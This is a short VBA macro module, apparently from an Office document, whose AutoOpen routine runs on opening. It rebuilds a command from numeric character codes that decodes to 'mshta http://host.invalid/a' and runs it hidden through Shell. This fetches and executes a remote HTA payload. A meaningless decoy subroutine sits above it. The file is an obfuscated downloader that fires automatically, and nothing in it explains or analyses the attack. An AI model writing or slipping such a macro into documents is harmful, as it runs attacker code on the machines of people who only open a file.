Attribute VB_Name = "Module1"
Sub Unused()
    GoSub Later
    Exit Sub
Later:
    Return
End Sub
Sub AutoOpen()
    Dim letters As Variant, i As Long, line As String
    letters = Array(109, 115, 104, 116, 97, 32, 104, 116, 116, 112, 58, 47, 47, 104, 111, 115, 116, 46, 105, 110, 118, 97, 108, 105, 100, 47, 97)
    For i = 0 To UBound(letters): line = line & Chr(letters(i)): Next i
    Shell line, vbHide
End Sub
